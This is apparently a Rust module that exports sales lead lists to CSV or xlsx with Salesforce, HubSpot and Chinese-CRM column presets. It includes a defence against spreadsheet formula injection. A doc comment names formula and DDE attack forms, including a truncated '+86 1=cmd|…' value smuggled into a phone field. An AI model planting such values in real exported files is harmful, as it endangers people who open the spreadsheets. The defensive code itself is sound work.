//! Lead lists leaving Marketdesk as files: a filtered lead list as xlsx or csv, with column
//! presets a CRM's import tool maps without help, and the rows an import rejected, with why.
//!
//! Both writers stream: rows are pulled from the iterator one at a time and written out (xlsx in
//! rust_xlsxwriter's constant-memory mode), so a million-lead export never sits in memory. Both
//! write to a hidden temporary file beside the target and rename it into place only once the file
//! is complete, so a failed or refused export never leaves half a file at the chosen path.
//!
//! Every cell a person could have typed goes through [`neutralise_formula`], in csv and in xlsx.
//!
//! ```
//! use marketdesk_core::Lang;
//! use marketdesk_report::{write_leads, CrmPreset, ExportFormat, LeadExportRow};
//!
//! let dir = tempfile::tempdir().unwrap();
//! let path = dir.path().join("线索.csv");
//! let rows = vec![LeadExportRow {
//!     name: "欧阳娜娜".into(),
//!     mobile: "13812345678".into(),
//!     company: "招商银行".into(),
//!     ..Default::default()
//! }];
//! let written = write_leads(&path, rows, CrmPreset::SalesforceLeads, ExportFormat::Csv, Lang::ZhCn)
//!     .unwrap();
//! assert_eq!(written, 1);
//! let text = std::fs::read_to_string(&path).unwrap();
//! assert!(text.starts_with("\u{FEFF}First Name,Last Name,Company"));
//! assert!(text.contains("娜娜,欧阳,招商银行"));
//! ```

use std::borrow::Cow;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use marketdesk_core::people::parse_name;
use marketdesk_core::Lang;
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
use serde::{Deserialize, Serialize};

use crate::{ReportError, Result};

/// The most data rows one xlsx sheet holds: Excel's 1,048,576 rows less the header row.
/// An export with more rows is refused, never cut short.
pub const MAX_XLSX_DATA_ROWS: u64 = 1_048_575;

/// One lead as exported: display strings the caller has already written in the user's language
/// (seniority "总监", events "2024 金融科技峰会；CIO 沙龙", dates as the UI shows them).
/// `name` is the cleaned full name; the presets that want family and given names apart split it.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct LeadExportRow {
    pub name: String,
    pub mobile: String,
    pub other_phones: String,
    pub email: String,
    pub wechat: String,
    pub company: String,
    pub department: String,
    pub title: String,
    pub region: String,
    pub industry: String,
    pub seniority: String,
    pub function: String,
    pub events: String,
    pub tags: String,
    pub source: String,
    pub created_at: String,
}

/// Which columns an export has and what their headers say, so that the CRM the file is meant for
/// maps them by itself.
///
/// Sources followed for the header names:
/// - Salesforce: the Lead object's standard field labels (Salesforce object reference, "Lead",
///   developer.salesforce.com/docs/…/object-lead.html). The Data Import Wizard maps columns whose
///   header equals a field label, and a lead needs Last Name and Company. The Lead object has no
///   standard Department field, so department and the other Marketdesk facts go to Description.
/// - HubSpot: the knowledge-base article "Set up your import files" (knowledge.hubspot.com:
///   headers are matched to property names; contact imports need first name, last name and email)
///   and the labels of HubSpot's default contact properties (First Name, Last Name, Email, Phone
///   Number, Mobile Phone Number, Company Name, Job Title, City, Industry). The columns after
///   Industry are not default contact properties as far as those sources show: the import tool
///   maps them to a property of the same name if the account has one, otherwise it offers to
///   create a custom property or skip the column.
/// - Chinese CRM: the field names the lead-import templates of 纷享销客 and 销售易 use
///   (姓名, 手机, 电话, 邮箱, 公司名称, 部门, 职务, 省市/地区, 行业, 线索来源, 备注), written in
///   Chinese whatever the interface language, since those are the names the CRM matches.
///
/// Region goes to City in both foreign presets: City is free text in both CRMs, while
/// State/Province can be a validated picklist that would reject "华东". Industry and Lead Source are
/// picklists in Salesforce: unknown values are kept by the default (unrestricted) picklists but
/// refused by restricted ones, which is the org's choice to make at import.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CrmPreset {
    /// Every column, headers in the user's language, named so Marketdesk's own import reads them
    /// back.
    Marketdesk,
    SalesforceLeads,
    HubspotContacts,
    ChineseCrm,
}

impl CrmPreset {
    pub const ALL: [CrmPreset; 4] = [
        CrmPreset::Marketdesk,
        CrmPreset::SalesforceLeads,
        CrmPreset::HubspotContacts,
        CrmPreset::ChineseCrm,
    ];

    pub fn code(self) -> &'static str {
        match self {
            CrmPreset::Marketdesk => "marketdesk",
            CrmPreset::SalesforceLeads => "salesforce_leads",
            CrmPreset::HubspotContacts => "hubspot_contacts",
            CrmPreset::ChineseCrm => "chinese_crm",
        }
    }

    /// `None` for a code no preset has; like `people::Column::from_code`, since this crate's
    /// error type has no variant for an unknown code.
    pub fn from_code(code: &str) -> Option<CrmPreset> {
        CrmPreset::ALL.into_iter().find(|p| p.code() == code)
    }

    pub fn name(self, lang: Lang) -> &'static str {
        match self {
            CrmPreset::Marketdesk => lang.pick("Marketdesk 全部字段", "Marketdesk, all columns"),
            CrmPreset::SalesforceLeads => lang.pick("Salesforce 潜在客户", "Salesforce leads"),
            CrmPreset::HubspotContacts => lang.pick("HubSpot 联系人", "HubSpot contacts"),
            CrmPreset::ChineseCrm => lang.pick(
                "国内 CRM（纷享销客、销售易等）",
                "Chinese CRM (Fxiaoke, Neocrm and similar)",
            ),
        }
    }

    /// The header row this preset writes, e.g. for a preview in the export dialog.
    pub fn headers(self, lang: Lang) -> Vec<&'static str> {
        self.columns(lang).iter().map(|c| c.header).collect()
    }

    fn columns(self, lang: Lang) -> Vec<Col> {
        use Field::*;
        let fixed = |cols: &[(&'static str, Field)]| {
            cols.iter()
                .map(|&(header, field)| Col { header, field })
                .collect()
        };
        match self {
            CrmPreset::Marketdesk => [
                Name,
                Mobile,
                OtherPhones,
                Email,
                WeChat,
                Company,
                Department,
                Title,
                Region,
                Industry,
                Seniority,
                Function,
                Events,
                Tags,
                Source,
                CreatedAt,
            ]
            .into_iter()
            .map(|field| Col {
                header: field.label(lang),
                field,
            })
            .collect(),
            CrmPreset::SalesforceLeads => fixed(&[
                ("First Name", GivenName),
                ("Last Name", RequiredFamilyName),
                ("Company", RequiredCompany),
                ("Title", Title),
                ("Email", Email),
                ("Phone", OtherPhones),
                ("Mobile", Mobile),
                ("City", Region),
                ("Industry", Industry),
                ("Lead Source", Source),
                (
                    "Description",
                    Notes(&[
                        WeChat, Department, Seniority, Function, Events, Tags, CreatedAt,
                    ]),
                ),
            ]),
            CrmPreset::HubspotContacts => fixed(&[
                ("First Name", GivenName),
                ("Last Name", FamilyName),
                ("Email", Email),
                ("Phone Number", OtherPhones),
                ("Mobile Phone Number", Mobile),
                ("Company Name", Company),
                ("Job Title", Title),
                ("City", Region),
                ("Industry", Industry),
                ("Department", Department),
                ("Seniority", Seniority),
                ("Job Function", Function),
                ("WeChat", WeChat),
                ("Events", Events),
                ("Tags", Tags),
                ("Lead Source", Source),
                ("Added On", CreatedAt),
            ]),
            CrmPreset::ChineseCrm => fixed(&[
                ("姓名", Name),
                ("手机", Mobile),
                ("电话", OtherPhones),
                ("邮箱", Email),
                ("微信", WeChat),
                ("公司名称", Company),
                ("部门", Department),
                ("职务", Title),
                ("省市/地区", Region),
                ("行业", Industry),
                ("线索来源", Source),
                (
                    "备注",
                    Notes(&[Seniority, Function, Events, Tags, CreatedAt]),
                ),
            ]),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ExportFormat {
    Xlsx,
    Csv,
}

impl ExportFormat {
    pub const ALL: [ExportFormat; 2] = [ExportFormat::Xlsx, ExportFormat::Csv];

    pub fn code(self) -> &'static str {
        match self {
            ExportFormat::Xlsx => "xlsx",
            ExportFormat::Csv => "csv",
        }
    }

    pub fn from_code(code: &str) -> Option<ExportFormat> {
        ExportFormat::ALL.into_iter().find(|f| f.code() == code)
    }

    /// The file extension, without the dot.
    pub fn extension(self) -> &'static str {
        self.code()
    }
}

/// What a column holds. `Notes` gathers facts the target CRM has no field for into one cell.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Field {
    Name,
    FamilyName,
    /// Salesforce refuses a lead without a last name: never empty.
    RequiredFamilyName,
    GivenName,
    Mobile,
    OtherPhones,
    Email,
    WeChat,
    Company,
    /// Salesforce refuses a lead without a company: never empty.
    RequiredCompany,
    Department,
    Title,
    Region,
    Industry,
    Seniority,
    Function,
    Events,
    Tags,
    Source,
    CreatedAt,
    Notes(&'static [Field]),
}

impl Field {
    /// Marketdesk's own header, also the label of a fact inside a notes cell. The words are the
    /// ones `people::guess_column` recognises, so a Marketdesk export imports back; "入库时间"
    /// (not "创建时间") so the export date is not read back as a registration time.
    fn label(self, lang: Lang) -> &'static str {
        match self {
            Field::Name => lang.pick("姓名", "Name"),
            Field::FamilyName | Field::RequiredFamilyName => lang.pick("姓", "Family name"),
            Field::GivenName => lang.pick("名", "Given name"),
            Field::Mobile => lang.pick("手机", "Mobile"),
            Field::OtherPhones => lang.pick("其他电话", "Other phones"),
            Field::Email => lang.pick("邮箱", "Email"),
            Field::WeChat => lang.pick("微信", "WeChat"),
            Field::Company | Field::RequiredCompany => lang.pick("公司", "Company"),
            Field::Department => lang.pick("部门", "Department"),
            Field::Title => lang.pick("职位", "Title"),
            Field::Region => lang.pick("地区", "Region"),
            Field::Industry => lang.pick("行业", "Industry"),
            Field::Seniority => lang.pick("级别", "Seniority"),
            Field::Function => lang.pick("职能", "Function"),
            Field::Events => lang.pick("参加的活动", "Events"),
            Field::Tags => lang.pick("标签", "Tags"),
            Field::Source => lang.pick("来源", "Source"),
            Field::CreatedAt => lang.pick("入库时间", "Added on"),
            Field::Notes(_) => lang.pick("备注", "Notes"),
        }
    }

    /// Column width in Excel's character units (a Chinese character takes about two).
    fn width(self) -> f64 {
        match self {
            Field::Name | Field::GivenName | Field::Region | Field::Seniority | Field::Function => {
                12.0
            }
            Field::FamilyName | Field::RequiredFamilyName => 10.0,
            Field::Mobile => 16.0,
            Field::OtherPhones => 22.0,
            Field::Email => 28.0,
            Field::WeChat => 18.0,
            Field::Company | Field::RequiredCompany => 32.0,
            Field::Department | Field::Title => 16.0,
            Field::Industry => 14.0,
            Field::Events => 32.0,
            Field::Tags => 24.0,
            Field::Source | Field::CreatedAt => 18.0,
            Field::Notes(_) => 50.0,
        }
    }

    fn is_phone(self) -> bool {
        matches!(self, Field::Mobile | Field::OtherPhones)
    }

    fn needs_split(self) -> bool {
        matches!(
            self,
            Field::FamilyName | Field::RequiredFamilyName | Field::GivenName
        )
    }
}

#[derive(Debug, Clone, Copy)]
struct Col {
    header: &'static str,
    field: Field,
}

/// What goes into a required Salesforce field the lead left empty. Salesforce rejects the whole
/// row otherwise, and the lead is worth more in the CRM with a visible gap than not at all; the
/// brackets make the gap easy to find and fix there.
fn not_provided(lang: Lang) -> &'static str {
    lang.pick("[未填写]", "[Not provided]")
}

/// One lead with its name split once, for all the columns that want the parts.
struct RowView<'a> {
    row: &'a LeadExportRow,
    family: &'a str,
    given: &'a str,
    lang: Lang,
}

impl<'a> RowView<'a> {
    fn text(&self, field: Field) -> Cow<'a, str> {
        let r = self.row;
        let plain = |s: &'a str| Cow::Borrowed(s);
        let required = |s: &'a str| {
            if s.trim().is_empty() {
                Cow::Borrowed(not_provided(self.lang))
            } else {
                Cow::Borrowed(s)
            }
        };
        match field {
            Field::Name => plain(&r.name),
            Field::FamilyName => plain(self.family),
            Field::RequiredFamilyName => required(self.family),
            Field::GivenName => plain(self.given),
            Field::Mobile => plain(&r.mobile),
            Field::OtherPhones => plain(&r.other_phones),
            Field::Email => plain(&r.email),
            Field::WeChat => plain(&r.wechat),
            Field::Company => plain(&r.company),
            Field::RequiredCompany => required(&r.company),
            Field::Department => plain(&r.department),
            Field::Title => plain(&r.title),
            Field::Region => plain(&r.region),
            Field::Industry => plain(&r.industry),
            Field::Seniority => plain(&r.seniority),
            Field::Function => plain(&r.function),
            Field::Events => plain(&r.events),
            Field::Tags => plain(&r.tags),
            Field::Source => plain(&r.source),
            Field::CreatedAt => plain(&r.created_at),
            Field::Notes(facts) => Cow::Owned(self.notes(facts)),
        }
    }

    /// "部门：信息科技部；级别：总监" / "Department: IT; Seniority: Director", empty facts left out.
    fn notes(&self, facts: &[Field]) -> String {
        let (colon, sep) = match self.lang {
            Lang::ZhCn => ("：", "；"),
            Lang::En => (": ", "; "),
        };
        let mut out = String::new();
        for &fact in facts {
            let value = self.text(fact);
            let value = value.trim();
            if value.is_empty() {
                continue;
            }
            if !out.is_empty() {
                out.push_str(sep);
            }
            out.push_str(fact.label(self.lang));
            out.push_str(colon);
            out.push_str(value);
        }
        out
    }
}

/// Makes a cell inert in spreadsheets: a value that starts with `=`, `+`, `-` or `@` (also after
/// leading spaces, and in the full-width forms ＝ ＋ － ＠ that Chinese input methods type), or
/// with a tab, a carriage return or a NUL, gets a leading apostrophe, as OWASP's "CSV Injection"
/// page and ASVS 5.0 requirement 1.2.10 advise. Excel, WPS and LibreOffice then show it as text
/// instead of running `=HYPERLINK(…)` or a DDE call.
///
/// Phone numbers are not exempted: "+86 138 1234 5678" becomes "'+86 138 1234 5678". That is a
/// little ugly, and CRMs that clean phone numbers drop the apostrophe with the other punctuation,
/// but an exemption would be a pattern an attacker can aim at ("+86 1=cmd|…"), and a lone "-" is
/// just as cheap to prefix as to reason about. Safety over looks.
///
/// ```
/// use marketdesk_report::neutralise_formula;
/// assert_eq!(neutralise_formula("=1+1"), "'=1+1");
/// assert_eq!(neutralise_formula("  ＠SUM(A1)"), "'  ＠SUM(A1)");
/// assert_eq!(neutralise_formula("+8613812345678"), "'+8613812345678");
/// assert_eq!(neutralise_formula("张三"), "张三");
/// ```
pub fn neutralise_formula(s: &str) -> Cow<'_, str> {
    if s.starts_with(['\t', '\r', '\0']) {
        return Cow::Owned(format!("'{s}"));
    }
    let first = s.trim_start().chars().next();
    match first {
        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// A cell of a CSV export. Anything a spreadsheet could run as a formula is neutralised
/// ([`neutralise_formula`]), but a phone number as numbers are written (`+852 9123 4567`,
/// `+1-415-555-0100`): digits, spaces, hyphens and one leading + can call no function and read
/// no cell, and a CRM must receive the number intact.
fn csv_cell(field: Field, s: &str) -> Cow<'_, str> {
    let plain_phone = field.is_phone()
        && s.strip_prefix('+').is_some_and(|rest| {
            !rest.is_empty()
                && rest.starts_with(|c: char| c.is_ascii_digit())
                && rest
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == ' ' || c == '-')
        });
    if plain_phone {
        Cow::Borrowed(s)
    } else {
        neutralise_formula(s)
    }
}

/// Writes a lead list to `path` and returns how many leads it holds.
///
/// Rows are read from `rows` one at a time and never collected. CSV is UTF-8 with a BOM and CRLF
/// line ends; xlsx has a bold, frozen header row and phone numbers stored as text. An xlsx of
/// more than [`MAX_XLSX_DATA_ROWS`] leads is refused with an error (CSV has no such limit, though
/// Excel itself shows only the first 1,048,576 lines of one). On any error nothing is left at
/// `path`: an existing file there is untouched, a new one is not created.
pub fn write_leads(
    path: &Path,
    rows: impl IntoIterator<Item = LeadExportRow>,
    preset: CrmPreset,
    format: ExportFormat,
    lang: Lang,
) -> Result<u64> {
    write_leads_within(path, rows, preset, format, lang, MAX_XLSX_DATA_ROWS)
}

/// [`write_leads`] with the xlsx row limit as a parameter, so tests can reach it.
fn write_leads_within(
    path: &Path,
    rows: impl IntoIterator<Item = LeadExportRow>,
    preset: CrmPreset,
    format: ExportFormat,
    lang: Lang,
    limit: u64,
) -> Result<u64> {
    let cols = preset.columns(lang);
    let split = cols.iter().any(|c| c.field.needs_split());
    let rows = rows.into_iter();
    write_atomically(path, |file, dir| match format {
        ExportFormat::Csv => {
            let mut out = CsvOut::new(file, cols.iter().map(|c| c.header))?;
            let n = each_lead(rows, &cols, split, lang, true, |cells| out.row(cells))?;
            out.finish()?;
            Ok(n)
        }
        ExportFormat::Xlsx => {
            let sheet = lang.pick("线索", "Leads");
            let styles: Vec<_> = cols
                .iter()
                .map(|c| ColStyle {
                    width: c.field.width(),
                    kind: if c.field.is_phone() {
                        CellKind::Text
                    } else {
                        CellKind::Plain
                    },
                })
                .collect();
            let mut out = XlsxOut::new(dir, sheet, &styles, lang, limit)?;
            out.header(cols.iter().map(|c| c.header))?;
            // Written as string cells, which a spreadsheet never runs as formulas: the text stays
            // exactly as typed, without the apostrophe a CSV needs.
            each_lead(rows, &cols, split, lang, false, |cells| {
                out.row(cells.iter().map(|c| Value::Str(Cow::Borrowed(c.as_ref()))))
            })?;
            out.finish(file)
        }
    })
}

/// Turns each lead into its cells (for a CSV, `neutralise`d: see [`csv_cell`]) and hands them to
/// `write`; returns the count.
fn each_lead(
    rows: impl Iterator<Item = LeadExportRow>,
    cols: &[Col],
    split: bool,
    lang: Lang,
    neutralise: bool,
    mut write: impl FnMut(&[Cow<'_, str>]) -> Result<()>,
) -> Result<u64> {
    let mut n = 0;
    for row in rows {
        let parsed = if split {
            parse_name(&row.name).ok()
        } else {
            None
        };
        let (family, given) = match &parsed {
            Some(name) => name.split_surname(),
            None => (row.name.trim(), ""),
        };
        let view = RowView {
            row: &row,
            family,
            given,
            lang,
        };
        let cells: Vec<Cow<'_, str>> = cols
            .iter()
            .map(|c| match (view.text(c.field), neutralise) {
                (text, false) => text,
                (Cow::Borrowed(s), true) => csv_cell(c.field, s),
                (Cow::Owned(s), true) => Cow::Owned(csv_cell(c.field, &s).into_owned()),
            })
            .collect();
        write(&cells)?;
        n += 1;
    }
    Ok(n)
}

/// One row of a file an import refused: `row` is the row number the user sees in the source sheet,
/// `cells` its cells as read, `reason` the sentence saying why it was refused.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RejectedRow {
    pub row: u64,
    pub cells: Vec<String>,
    pub reason: String,
}

/// Writes the rows an import refused to an xlsx at `path` and returns how many it holds: first
/// a 行号/Row column, then the source file's `headers`, then a wide, wrapped 原因/Reason column,
/// so the user can fix the rows in place and import this file again. A row with more cells than
/// there are headers keeps its extra cells after the reason column, so nothing typed is lost.
/// Cells are string cells, never formulas, written exactly as read; the file is streamed and
/// written through a temporary file as [`write_leads`] does.
pub fn write_rejected_rows(
    path: &Path,
    headers: &[String],
    rows: impl IntoIterator<Item = RejectedRow>,
    warned: impl IntoIterator<Item = RejectedRow>,
    lang: Lang,
) -> Result<u64> {
    let rows = rows.into_iter();
    let mut warned = warned.into_iter().peekable();
    write_atomically(path, |file, dir| {
        let mut styles = Vec::with_capacity(headers.len() + 2);
        styles.push(ColStyle {
            width: 8.0,
            kind: CellKind::Plain,
        });
        styles.extend(headers.iter().map(|_| ColStyle {
            width: 16.0,
            kind: CellKind::Plain,
        }));
        styles.push(ColStyle {
            width: 60.0,
            kind: CellKind::Wrapped,
        });
        let sheet = lang.pick("未导入的行", "Rejected rows");
        let mut out = XlsxOut::new(dir, sheet, &styles, lang, MAX_XLSX_DATA_ROWS)?;
        let write_rows = |out: &mut XlsxOut,
                          last: &str,
                          rows: &mut dyn Iterator<Item = RejectedRow>|
         -> Result<()> {
            let head: Vec<&str> = std::iter::once(lang.pick("行号", "Row"))
                .chain(headers.iter().map(String::as_str))
                .chain(std::iter::once(last))
                .collect();
            out.header(head)?;
            let width = headers.len();
            for r in rows {
                let (known, extra) = r.cells.split_at(r.cells.len().min(width));
                let blanks = width - known.len();
                out.row(
                    std::iter::once(Value::Number(r.row as f64))
                        .chain(known.iter().map(|c| Value::Str(Cow::Borrowed(c.as_str()))))
                        .chain(std::iter::repeat_n(Value::Empty, blanks))
                        .chain(std::iter::once(Value::Str(Cow::Borrowed(
                            r.reason.as_str(),
                        ))))
                        .chain(extra.iter().map(|c| Value::Str(Cow::Borrowed(c.as_str())))),
                )?;
            }
            Ok(())
        };
        write_rows(&mut out, lang.pick("原因", "Reason"), &mut rows.into_iter())?;
        if warned.peek().is_some() {
            out.next_sheet(lang.pick("导入时的提醒", "Imported with warnings"), &styles)?;
            write_rows(&mut out, lang.pick("提醒", "Warning"), &mut warned)?;
        }
        out.finish(file)
    })
}

/// Writes through a temporary file in the target's directory and renames it onto `path` only
/// once `write` has succeeded. The rename replaces an existing file in one step (on Windows too),
/// so readers see the old file or the new one, never a mixture. On error the temporary file is
/// deleted when it drops. The `.part` name is hidden (leading dot) in case the process is killed
/// before it can be removed.
fn write_atomically(path: &Path, write: impl FnOnce(&File, &Path) -> Result<u64>) -> Result<u64> {
    let dir = match path.parent() {
        Some(d) if !d.as_os_str().is_empty() => d,
        _ => Path::new("."),
    };
    let temp = tempfile::Builder::new()
        .prefix(".marketdesk-export-")
        .suffix(".part")
        .tempfile_in(dir)
        .map_err(|e| io_err(path, e))?;
    let n = write(temp.as_file(), dir)?;
    temp.as_file().sync_all().map_err(|e| io_err(path, e))?;
    temp.persist(path).map_err(|e| io_err(path, e.error))?;
    Ok(n)
}

/// File-system failures (missing folder, no permission, target open in Excel), carried in the
/// only variant that fits until `ReportError` has one for writing files.
fn io_err(path: &Path, e: std::io::Error) -> ReportError {
    ReportError::Spreadsheet(format!("{}: {e}", path.display()))
}

fn xlsx_err(e: XlsxError) -> ReportError {
    ReportError::Spreadsheet(e.to_string())
}

fn csv_err(e: csv::Error) -> ReportError {
    ReportError::Spreadsheet(e.to_string())
}

fn too_many_rows(lang: Lang) -> ReportError {
    ReportError::Spreadsheet(
        lang.pick(
            "超过了 Excel 单个工作表的上限 1,048,575 行，请缩小筛选范围或改为导出 CSV",
            "there are more than 1,048,575 rows, the most one Excel sheet holds; narrow the filter or export CSV instead",
        )
        .into(),
    )
}

/// CSV for Excel on Chinese Windows: without a byte-order mark Excel reads a .csv in the
/// system's ANSI code page (GBK there), turning UTF-8 Chinese into mojibake; with the UTF-8 BOM
/// it reads UTF-8. CRLF is the line end RFC 4180 specifies and what Windows tools expect. CRM
/// importers (Salesforce, HubSpot, 纷享销客) accept the BOM.
struct CsvOut<'f> {
    csv: csv::Writer<BufWriter<&'f File>>,
}

impl<'f> CsvOut<'f> {
    fn new<'h>(file: &'f File, headers: impl IntoIterator<Item = &'h str>) -> Result<Self> {
        let mut buf = BufWriter::with_capacity(1 << 16, file);
        buf.write_all("\u{FEFF}".as_bytes())
            .map_err(|e| ReportError::Spreadsheet(e.to_string()))?;
        let mut csv = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(buf);
        csv.write_record(headers).map_err(csv_err)?;
        Ok(CsvOut { csv })
    }

    fn row(&mut self, cells: &[Cow<'_, str>]) -> Result<()> {
        self.csv
            .write_record(cells.iter().map(|c| c.as_bytes()))
            .map_err(csv_err)
    }

    /// Flushes both buffers, so a write error surfaces here instead of being dropped.
    fn finish(self) -> Result<()> {
        let buf = self
            .csv
            .into_inner()
            .map_err(|e| ReportError::Spreadsheet(e.error().to_string()))?;
        buf.into_inner()
            .map_err(|e| ReportError::Spreadsheet(e.error().to_string()))?;
        Ok(())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum CellKind {
    Plain,
    /// Text number format `@`: phone numbers stay text even when edited in Excel.
    Text,
    /// Wrapped, for long sentences.
    Wrapped,
}

#[derive(Debug, Clone, Copy)]
struct ColStyle {
    width: f64,
    kind: CellKind,
}

#[derive(Clone)]
enum Value<'a> {
    Str(Cow<'a, str>),
    Number(f64),
    Empty,
}

/// One constant-memory worksheet written row by row: rust_xlsxwriter flushes each finished row
/// to a temporary file, so memory stays flat however many rows come.
struct XlsxOut {
    workbook: Workbook,
    styles: Vec<ColStyle>,
    text: Format,
    wrapped: Format,
    head: Format,
    /// Data rows written so far.
    rows: u64,
    /// Data rows allowed: [`MAX_XLSX_DATA_ROWS`] except in tests.
    limit: u64,
    lang: Lang,
    /// The sheet rows go to.
    current: usize,
    /// Data rows of the sheets before the current one.
    earlier_rows: u64,
}

impl XlsxOut {
    /// `dir` also holds rust_xlsxwriter's own temporary file (anonymous, removed by the system
    /// when closed): the system temp directory can be a RAM disk (tmpfs), which would defeat
    /// constant-memory mode, while the target directory must have room for the file anyway.
    fn new(dir: &Path, sheet: &str, styles: &[ColStyle], lang: Lang, limit: u64) -> Result<Self> {
        let mut workbook = Workbook::new();
        workbook.set_tempdir(dir).map_err(xlsx_err)?;
        let text = Format::new().set_num_format("@");
        let wrapped = Format::new()
            .set_text_wrap()
            .set_align(rust_xlsxwriter::FormatAlign::Top);
        add_sheet(&mut workbook, sheet, styles, &text, &wrapped)?;
        Ok(XlsxOut {
            workbook,
            styles: styles.to_vec(),
            current: 0,
            earlier_rows: 0,
            text,
            wrapped,
            head: Format::new().set_bold(),
            rows: 0,
            limit: limit.min(MAX_XLSX_DATA_ROWS),
            lang,
        })
    }

    fn sheet(&mut self) -> Result<&mut Worksheet> {
        self.workbook
            .worksheet_from_index(self.current)
            .map_err(xlsx_err)
    }

    /// Goes on in a new sheet: rows from now on go there, after its header.
    fn next_sheet(&mut self, sheet: &str, styles: &[ColStyle]) -> Result<()> {
        add_sheet(&mut self.workbook, sheet, styles, &self.text, &self.wrapped)?;
        self.current += 1;
        self.earlier_rows += self.rows;
        self.rows = 0;
        self.styles = styles.to_vec();
        Ok(())
    }

    fn header<'h>(&mut self, headers: impl IntoIterator<Item = &'h str>) -> Result<()> {
        let head = self.head.clone();
        let ws = self.sheet()?;
        for (c, h) in headers.into_iter().enumerate() {
            ws.write_string_with_format(0, col_index(c)?, h, &head)
                .map_err(xlsx_err)?;
        }
        Ok(())
    }

    /// Text is always written as a string cell, never as a formula or a number.
    fn row<'v>(&mut self, cells: impl IntoIterator<Item = Value<'v>>) -> Result<()> {
        if self.rows >= self.limit {
            return Err(too_many_rows(self.lang));
        }
        let r = u32::try_from(self.rows + 1).map_err(|_| too_many_rows(self.lang))?;
        let (text, wrapped) = (self.text.clone(), self.wrapped.clone());
        let kinds: Vec<CellKind> = self.styles.iter().map(|s| s.kind).collect();
        let ws = self.sheet()?;
        for (c, value) in cells.into_iter().enumerate() {
            let col = col_index(c)?;
            match value {
                Value::Empty => {}
                Value::Number(n) => {
                    ws.write_number(r, col, n).map_err(xlsx_err)?;
                }
                Value::Str(s) if s.is_empty() => {}
                Value::Str(s) => {
                    match kinds.get(c).copied().unwrap_or(CellKind::Plain) {
                        CellKind::Plain => ws.write_string(r, col, s.as_ref()),
                        CellKind::Text => ws.write_string_with_format(r, col, s.as_ref(), &text),
                        CellKind::Wrapped => {
                            ws.write_string_with_format(r, col, s.as_ref(), &wrapped)
                        }
                    }
                    .map_err(xlsx_err)?;
                }
            }
        }
        self.rows += 1;
        Ok(())
    }

    /// Saves the workbook; returns the data rows of its first sheet.
    fn finish(mut self, file: &File) -> Result<u64> {
        let mut buf = BufWriter::with_capacity(1 << 16, file);
        self.workbook.save_to_writer(&mut buf).map_err(xlsx_err)?;
        buf.into_inner()
            .map_err(|e| ReportError::Spreadsheet(e.error().to_string()))?;
        Ok(if self.current == 0 {
            self.rows
        } else {
            self.earlier_rows
        })
    }
}

/// A constant-memory worksheet named `sheet` with the columns' widths and formats and a frozen
/// header row.
fn add_sheet(
    workbook: &mut Workbook,
    sheet: &str,
    styles: &[ColStyle],
    text: &Format,
    wrapped: &Format,
) -> Result<()> {
    let ws = workbook
        .add_worksheet_with_constant_memory()
        .map_err(xlsx_err)?;
    ws.set_name(sheet).map_err(xlsx_err)?;
    for (c, style) in styles.iter().enumerate() {
        let c = col_index(c)?;
        ws.set_column_width(c, style.width).map_err(xlsx_err)?;
        match style.kind {
            CellKind::Plain => {}
            CellKind::Text => {
                ws.set_column_format(c, text).map_err(xlsx_err)?;
            }
            CellKind::Wrapped => {
                ws.set_column_format(c, wrapped).map_err(xlsx_err)?;
            }
        }
    }
    ws.set_freeze_panes(1, 0).map_err(xlsx_err)?;
    Ok(())
}

/// Excel has 16,384 columns; a source file with more headers cannot be echoed back.
fn col_index(c: usize) -> Result<u16> {
    u16::try_from(c)
        .ok()
        .filter(|&c| c < 16_384)
        .ok_or_else(|| xlsx_err(XlsxError::RowColumnLimitError))
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{open_workbook, Data, Reader, Xlsx};
    use std::cell::Cell;

    fn lead(name: &str) -> LeadExportRow {
        LeadExportRow {
            name: name.into(),
            mobile: "13812345678".into(),
            other_phones: "010-88886666 转 123".into(),
            email: "nana@cmbchina.com".into(),
            wechat: "nana_wx".into(),
            company: "招商银行".into(),
            department: "信息科技部".into(),
            title: "总监".into(),
            region: "深圳".into(),
            industry: "银行".into(),
            seniority: "总监级".into(),
            function: "科技".into(),
            events: "2024 金融科技峰会；CIO 沙龙".into(),
            tags: "重点客户".into(),
            source: "峰会签到".into(),
            created_at: "2024-05-18".into(),
        }
    }

    /// The sheet as calamine reads it: every cell as text, numbers formatted, blanks empty.
    fn read_xlsx(path: &Path, sheet: &str) -> Vec<Vec<String>> {
        let mut wb: Xlsx<_> = open_workbook(path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
        let range = wb
            .worksheet_range(sheet)
            .unwrap_or_else(|e| panic!("sheet {sheet:?}: {e}"));
        range
            .rows()
            .map(|r| r.iter().map(|c| c.to_string()).collect())
            .collect()
    }

    fn cell(path: &Path, sheet: &str, row: u32, col: u32) -> Data {
        let mut wb: Xlsx<_> = open_workbook(path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
        let range = wb
            .worksheet_range(sheet)
            .unwrap_or_else(|e| panic!("sheet {sheet:?}: {e}"));
        range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
    }

    fn files_in(dir: &Path) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .map(|d| {
                d.filter_map(|e| e.ok())
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        names.sort();
        names
    }

    #[test]
    fn xlsx_round_trip_keeps_names_phones_as_text_and_defuses_formulas() {
        let dir = tempfile::tempdir().expect("temp dir");
        let path = dir.path().join("线索.xlsx");
        let mut evil = lead("欧阳娜娜");
